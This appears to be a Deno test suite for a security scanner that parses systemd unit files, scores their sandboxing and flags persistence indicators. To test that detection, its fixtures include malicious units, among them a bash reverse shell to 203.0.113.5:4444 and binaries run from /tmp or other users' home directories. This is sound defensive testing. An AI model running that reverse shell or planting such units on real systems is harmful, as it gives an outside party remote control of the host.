import assert from "node:assert/strict";
import { systemdUnits } from "../../src/scanners/systemd_units/index.ts";
import { EXPOSURE_TABLE, exposureOf } from "../../src/scanners/systemd_units/exposure.ts";
import { dropInDirNames, loadUnits, templateOf } from "../../src/scanners/systemd_units/loader.ts";
import { Host } from "../../src/host/host.ts";
import {
  lastValue,
  listValues,
  mergeSections,
  parseBoolean,
  parseExecLine,
  parseUnitFile,
} from "../../src/scanners/systemd_units/unit_file.ts";
import { fixtureRoot, makeTree, runOne, testContext, type TreeEntry } from "../helpers.ts";
import { UNIT_DIRS } from "../../src/scanners/systemd_units/loader.ts";
import { needs } from "../host_caps.ts";

const STOCK = fixtureRoot("persist-debian-stock");
const LIB = "usr/lib/systemd/system";
const ETC = "etc/systemd/system";
const isRoot = Deno.uid() === 0;

const HARDENED = [
  "[Service]",
  "ExecStart=/usr/sbin/hardened",
  "DynamicUser=yes",
  "NoNewPrivileges=yes",
  "ProtectSystem=strict",
  "ProtectHome=yes",
  "CapabilityBoundingSet=",
  "SystemCallFilter=@system-service",
  "PrivateTmp=yes",
  "PrivateDevices=yes",
  "RestrictNamespaces=yes",
  "RestrictAddressFamilies=AF_UNIX",
  "ProtectKernelModules=yes",
  "ProtectKernelTunables=yes",
  "ProtectKernelLogs=yes",
  "ProtectControlGroups=yes",
  "ProtectClock=yes",
  "RestrictSUIDSGID=yes",
  "MemoryDenyWriteExecute=yes",
  "RestrictRealtime=yes",
  "LockPersonality=yes",
  "SystemCallArchitectures=native",
].join("\n");

function sections(text: string) {
  return parseUnitFile(text).sections;
}

Deno.test("unit files: sections, continuations, comments, repeated and reset keys", () => {
  const { sections: s, bad } = parseUnitFile(
    "# c\n[Unit]\nDescription=x\n\n[Service]\nExecStart=/bin/a \\\n  --flag\n; other comment\nExecStartPre=/bin/p1\n" +
      "ExecStartPre=\nExecStartPre=/bin/p2\nEnvironment=A=1 B=2\n",
  );
  assert.equal(bad, 0);
  // systemd turns the trailing backslash into a space and appends the next line as it is.
  assert.equal(lastValue(s, "Service", "ExecStart"), "/bin/a    --flag");
  assert.deepEqual(listValues(s, "Service", "ExecStartPre"), ["/bin/p2"]);
  assert.equal(lastValue(s, "Service", "Environment"), "A=1 B=2");
  assert.equal(lastValue(s, "Unit", "Missing"), undefined);
});

Deno.test("unit files: garbage, truncated and empty input never throw", () => {
  assert.equal(parseUnitFile("").sections.size, 0);
  // "\n\0" is one line end; "[Broken" is a bad section header, after which systemd reads nothing more.
  const g = parseUnitFile("key=before-section\n\u0000\u00ff\n[Broken\n=value\n[Service]\nExecStart=/x\n");
  assert.deepEqual([g.bad, g.stoppedAt, g.sections.size], [2, 3, 0]);
  const t = parseUnitFile("[Service]\n=value\nExecStart=/x \\");
  assert.deepEqual([t.bad, t.stoppedAt], [1, undefined]);
  assert.equal(
    lastValue(t.sections, "Service", "ExecStart"),
    "/x",
    "a continuation cut by the end of the file",
  );
});

Deno.test("unit files: drop-ins append, later ones win, an empty assignment resets", () => {
  const merged = mergeSections(
    sections("[Service]\nExecStart=/bin/a\nProtectSystem=full\n"),
    sections("[Service]\nExecStart=\nExecStart=/bin/b\nProtectSystem=strict\n[Unit]\nAfter=x\n"),
  );
  assert.deepEqual(listValues(merged, "Service", "ExecStart"), ["/bin/b"]);
  assert.equal(lastValue(merged, "Service", "ProtectSystem"), "strict");
  assert.equal(lastValue(merged, "Unit", "After"), "x");
});

Deno.test("systemd booleans: every spelling", () => {
  for (const v of ["1", "yes", "y", "true", "t", "on", "YES", " On "]) assert.equal(parseBoolean(v), true, v);
  for (const v of ["0", "no", "n", "false", "f", "off", "OFF"]) assert.equal(parseBoolean(v), false, v);
  for (const v of ["", "strict", "2", undefined]) assert.equal(parseBoolean(v), undefined, String(v));
});

Deno.test("exec lines, drop-in directory names and templates", () => {
  assert.deepEqual(parseExecLine("-@/bin/x argv0 --y"), { flags: "-@", command: "/bin/x argv0 --y" });
  assert.deepEqual(parseExecLine("+/bin/x"), { flags: "+", command: "/bin/x" });
  assert.deepEqual(dropInDirNames("foo-bar-baz.service"), [
    "foo-bar-baz.service.d",
    "foo-bar-.service.d",
    "foo-.service.d",
  ]);
  assert.deepEqual(dropInDirNames("getty@tty1.service"), ["getty@tty1.service.d", "getty@.service.d"]);
  // systemd 252's order for an instance: the instance, its template (and the template's prefix), then the
  // prefix with the instance kept and its template.
  assert.deepEqual(dropInDirNames("foo-bar@x.service"), [
    "foo-bar@x.service.d",
    "foo-bar@.service.d",
    "foo-.service.d",
    "foo-@x.service.d",
    "foo-@.service.d",
  ]);
  assert.equal(templateOf("getty@tty1.service"), "getty@.service");
  assert.equal(templateOf("getty@.service"), undefined);
});

Deno.test("exposure: nothing set scores 10, everything set 0, graded directives give partial credit", () => {
  assert.equal(exposureOf(sections("[Service]\nExecStart=/x\n")).score, 10);
  const full = exposureOf(sections(HARDENED));
  assert.deepEqual([full.score, full.missing, full.partial], [0, [], []]);
  const spellings = exposureOf(
    sections(HARDENED.replaceAll("=yes", "=true").replace("ProtectHome=true", "ProtectHome=tmpfs")),
  );
  assert.equal(spellings.score, 0);
  const partial = exposureOf(sections(HARDENED.replace("ProtectSystem=strict", "ProtectSystem=full")));
  assert.deepEqual(partial.partial, ["ProtectSystem"]);
  assert.ok(partial.score > 0 && partial.score < 0.5);
  const yes = exposureOf(sections(HARDENED.replace("ProtectSystem=strict", "ProtectSystem=yes")));
  assert.ok(yes.score > partial.score);
  assert.ok(EXPOSURE_TABLE.every((r) => r.weight > 0));
});

Deno.test("systemd_units: a stock Debian host gives only info findings for vendor root daemons", async () => {
  const r = await runOne(systemdUnits, STOCK, { includePassed: true });
  assert.equal(r.status, "ok");
  assert.deepEqual(r.warnings, []);
  assert.deepEqual(
    r.findings.map((f) => [f.id, f.severity, f.metadata.passed ?? false]),
    [
      ["systemd.unit.exposure:cron.service", "info", false],
      ["systemd.unit.exposure:dbus.service", "info", false],
      ["systemd.unit.exposure:ssh.service", "info", false],
      ["systemd.unit.exposure:systemd-journald.service", "info", false],
      ["systemd.unit.exposure:systemd-logind.service", "info", true],
    ],
  );
  assert.ok(
    r.findings.every((f) => String(f.metadata.path).startsWith("/usr/lib/systemd/system/")),
    "merged /usr read once",
  );
});

function unitTree(extra: Record<string, TreeEntry>) {
  return makeTree({
    "etc/passwd":
      "root:x:0:0::/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\nsvc:x:999:999::/:/usr/sbin/nologin\n",
    [`${LIB}/.keep`]: "",
    ...extra,
  });
}

const wanted = (name: string) => ({
  [`${ETC}/multi-user.target.wants/${name}`]: { symlink: `/usr/lib/systemd/system/${name}` },
});

Deno.test("systemd_units: an enabled local root daemon without sandboxing is low; vendor info; others not judged", async () => {
  using root = unitTree({
    [`${ETC}/local.service`]: "[Service]\nExecStart=/usr/local/sbin/localdaemon\n",
    ...wanted("local.service"),
    [`${LIB}/vendor.service`]: "[Service]\nExecStart=/usr/sbin/vendord\n",
    ...wanted("vendor.service"),
    [`${LIB}/notenabled.service`]: "[Service]\nExecStart=/usr/sbin/idle\n",
    [`${LIB}/once.service`]: "[Service]\nType=oneshot\nExecStart=/usr/sbin/once\n",
    ...wanted("once.service"),
    [`${LIB}/user.service`]: "[Service]\nUser=svc\nExecStart=/usr/sbin/u\n",
    ...wanted("user.service"),
    [`${LIB}/console.service`]: "[Service]\nExecStart=-/sbin/agetty -o '-p' console\nStandardInput=tty\n",
    ...wanted("console.service"),
    [`${LIB}/worker@.service`]: "[Service]\nExecStart=/usr/sbin/worker %i\n",
    [`${ETC}/multi-user.target.wants/worker@1.service`]: {
      symlink: "/usr/lib/systemd/system/worker@.service",
    },
    [`${ETC}/multi-user.target.wants/worker@2.service`]: {
      symlink: "/usr/lib/systemd/system/worker@.service",
    },
  });
  const r = await runOne(systemdUnits, root.path);
  assert.deepEqual(r.findings.map((f) => [f.id, f.severity, f.metadata.exposure]), [
    ["systemd.unit.exposure:local.service", "low", 10],
    ["systemd.unit.exposure:vendor.service", "info", 10],
    ["systemd.unit.exposure:worker@.service", "info", 10],
  ]);
  const local = r.findings[0];
  assert.ok((local.metadata.missing as string[]).includes("NoNewPrivileges"));
  assert.match(local.title, /exposure 10\.0\/10/);
});

Deno.test("systemd_units: drop-ins from every directory apply with /etc winning; masked units are skipped", async () => {
  using root = unitTree({
    [`${LIB}/app.service`]: "[Service]\nExecStart=/usr/sbin/app\n",
    ...wanted("app.service"),
    [`${LIB}/app.service.d/10-hard.conf`]: "[Service]\nNoNewPrivileges=no\n",
    [`${ETC}/app.service.d/10-hard.conf`]: HARDENED.replace("ExecStart=/usr/sbin/hardened\n", "").replace(
      "DynamicUser=yes\n",
      "",
    ),
    [`${LIB}/masked.service`]: "[Service]\nExecStart=/tmp/evil\n",
    [`${ETC}/masked.service`]: { symlink: "/dev/null" },
    ...wanted("masked.service"),
    [`${LIB}/empty.service`]: "[Service]\nExecStart=/tmp/evil\n",
    [`${ETC}/empty.service`]: "",
    [`${LIB}/alias-target.service`]: "[Service]\nExecStart=/usr/sbin/t\nUser=svc\n",
    [`${ETC}/alias.service`]: { symlink: "/usr/lib/systemd/system/alias-target.service" },
    [`${LIB}/service.d/90-all.conf`]: "[Service]\nLockPersonality=on\n",
  });
  const r = await runOne(systemdUnits, root.path, { includePassed: true });
  assert.deepEqual(r.findings.map((f) => [f.id, f.metadata.passed ?? false, f.metadata.exposure]), [
    ["systemd.unit.exposure:app.service", true, 1.8],
  ]);
  assert.deepEqual(r.findings[0].metadata.drop_ins, [
    `/etc/systemd/system/app.service.d/10-hard.conf`,
    `/usr/lib/systemd/system/service.d/90-all.conf`,
  ]);
});

Deno.test("systemd_units: Exec lines from temp, home or payloads are untrusted_exec; own home of User= is fine", async () => {
  using root = unitTree({
    [`${ETC}/tmp.service`]: "[Service]\nType=oneshot\nExecStart=/tmp/.cache/kworker\n",
    [`${ETC}/pre.service`]: "[Service]\nExecStartPre=-/home/bob/pre.sh\nExecStart=/usr/bin/true\n",
    [`${ETC}/rev.service`]: "[Service]\nExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1'\n",
    [`${ETC}/bob.service`]: "[Service]\nUser=bob\nExecStart=/home/bob/bin/agent\n",
    [`${ETC}/bobplus.service`]: "[Service]\nUser=bob\nExecStart=+/home/bob/bin/agent\n",
  });
  const r = await runOne(systemdUnits, root.path);
  assert.deepEqual(r.findings.map((f) => [f.id, f.severity]).sort(), [
    ["systemd.unit.untrusted_exec:bobplus.service", "high"],
    ["systemd.unit.untrusted_exec:pre.service", "high"],
    ["systemd.unit.untrusted_exec:rev.service", "critical"],
    ["systemd.unit.untrusted_exec:tmp.service", "high"],
  ]);
  const pre = r.findings.find((f) => f.id.endsWith(":pre.service"))!;
  assert.deepEqual(pre.metadata.commands, ["ExecStartPre=-/home/bob/pre.sh"]);
  assert.deepEqual(pre.metadata.indicators, ["other_home:/home/bob/pre.sh"]);
});

Deno.test("systemd_units: a unit linked in from /tmp or a drop-in another account owns is untrusted_exec", async () => {
  using root = unitTree({
    "tmp/evil.service": "[Service]\nExecStart=/usr/bin/sleep infinity\n",
    [`${ETC}/evil.service`]: { symlink: "/tmp/evil.service" },
    [`${LIB}/ok.service`]: "[Service]\nExecStart=/usr/sbin/ok\n",
    [`${ETC}/ok.service.d/override.conf`]: "[Service]\nNice=5\n",
  });
  if (isRoot) Deno.chownSync(`${root.path}/${ETC}/ok.service.d/override.conf`, 1000, 1000);
  const r = await runOne(systemdUnits, root.path);
  const untrusted = r.findings.filter((f) => f.check_id === "systemd.unit.untrusted_exec");
  assert.deepEqual(
    untrusted.map((f) => [f.id, f.severity, f.metadata.indicators]),
    [
      ["systemd.unit.untrusted_exec:evil.service", "high", ["unit_file_temp_dir:/tmp/evil.service"]],
      ...(isRoot
        ? [[
          "systemd.unit.untrusted_exec:ok.service",
          "high",
          ["unit_file_foreign_owner:/etc/systemd/system/ok.service.d/override.conf"],
        ]]
        : []),
    ],
  );
});

Deno.test("systemd_units: no unit directory is a skip; garbage units are warnings", async () => {
  using none = makeTree({ "etc/hostname": "x\n" });
  const s = await runOne(systemdUnits, none.path);
  assert.equal(s.status, "skipped");
  assert.match(s.reason ?? "", /no systemd unit directory/);
  using bad = unitTree({ [`${ETC}/bad.service`]: "\u0000garbage\n[Service\nExecStart\n" });
  const r = await runOne(systemdUnits, bad.path);
  assert.equal(r.status, "ok");
  assert.deepEqual(r.warnings.map((w) => w.detail?.replace(/^.*bad\.service:?/, "")), [
    " 1 line(s) outside a section or without '='",
    "3: a bad section header or a line that is not UTF-8; systemd reads no further",
  ]);
  await new Deno.Command("/bin/sh", {
    args: [
      "-c",
      'printf "[Service]\\nExecStart=/tmp/x\\n" > "$(printf "$0/etc/systemd/system/b\\377d.service")"',
      bad.path,
    ],
  }).output();
  const u = await runOne(systemdUnits, bad.path);
  assert.deepEqual(u.warnings.map((w) => w.code).sort(), [
    "unit_malformed",
    "unit_malformed",
    "unit_unreadable",
  ]);
});

Deno.test(needs(["root"], {
  name: "systemd_units: a FIFO or a device where a unit is expected is said; a null device masks quietly",
  fn: async () => {
    using t = unitTree({ [`${ETC}/ok.service`]: "[Service]\nExecStart=/usr/bin/true\n" });
    new Deno.Command("/usr/bin/mkfifo", { args: [`${t.path}/${ETC}/evil.service`] }).outputSync();
    new Deno.Command("/usr/bin/mknod", { args: [`${t.path}/${ETC}/zero.service`, "c", "1", "5"] })
      .outputSync();
    new Deno.Command("/usr/bin/mknod", { args: [`${t.path}/${ETC}/masked.service`, "c", "1", "3"] })
      .outputSync();
    const r = await runOne(systemdUnits, t.path);
    assert.equal(r.status, "ok");
    const said = r.warnings.filter((w) => w.code === "unit_unreadable").map((w) => w.detail!).sort();
    assert.equal(said.length, 2, said.join("\n"));
    assert.match(said[0], /evil\.service: not a regular file \(fifo\)/);
    assert.match(said[1], /zero\.service: not a regular file \(char\)/);
    const loaded = loadUnits(testContext("systemd_units", t.path), [".service"]);
    assert.ok(loaded.masked.includes("masked.service"));
  },
}));

Deno.test("systemd_units: the live host scans without errors", async () => {
  const r = await runOne(systemdUnits, "/");
  // Skipped exactly when no unit directory exists (systemd is not the init system here).
  const dirs = UNIT_DIRS.filter((d) => {
    try {
      return Deno.statSync(d).isDirectory;
    } catch {
      return false;
    }
  });
  assert.equal(r.status, dirs.length > 0 ? "ok" : "skipped", r.reason);
  assert.ok(
    !r.findings.some((f) => f.severity !== "info"),
    "no stock unit on this VM deserves more than info",
  );
});

Deno.test("loadUnits: a second load by the same scanner reuses the reads, with the same units and warnings", () => {
  using t = makeTree({
    "usr/lib/systemd/system/a.service": "[Service]\nExecStart=/usr/bin/a\n",
    "usr/lib/systemd/system/a.service.d/x.conf": "[Service]\nUser=nobody\n",
    "usr/lib/systemd/system/b.socket": "[Socket]\nListenStream=1\n",
    "etc/systemd/system/bad.service": "[Service]\nExecStart=/x\nno equals sign\n",
  });
  const host = new Host(t.path);
  const mk = (name: string) => testContext(name, t.path, { host });
  const ctx = mk("persistence");
  const first = loadUnits(ctx, [".service"]);
  const warned = ctx.warnings.length;
  Deno.removeSync(`${t.path}/usr/lib/systemd/system/a.service.d`, { recursive: true });
  Deno.writeFileSync(`${t.path}/etc/systemd/system/bad.service`, new TextEncoder().encode("[Service]\n"));
  const second = loadUnits(ctx, [".service", ".socket"]);
  assert.deepEqual(
    second.units.filter((u) => u.name.endsWith(".service")),
    first.units,
    "read once per scanner",
  );
  assert.deepEqual(second.units.map((u) => u.name), ["a.service", "b.socket", "bad.service"]);
  assert.equal(lastValue(first.units[0].sections, "Service", "User"), "nobody");
  assert.deepEqual(
    ctx.warnings.slice(warned),
    ctx.warnings.slice(0, warned),
    "the first read's warnings again",
  );
  assert.ok(ctx.warnings.some((w) => w.code === "unit_malformed"));
  const other = loadUnits(mk("systemd_units"), [".service"]);
  assert.equal(
    other.units.find((u) => u.name === "a.service")?.dropIns.length,
    0,
    "another scanner reads anew",
  );
});
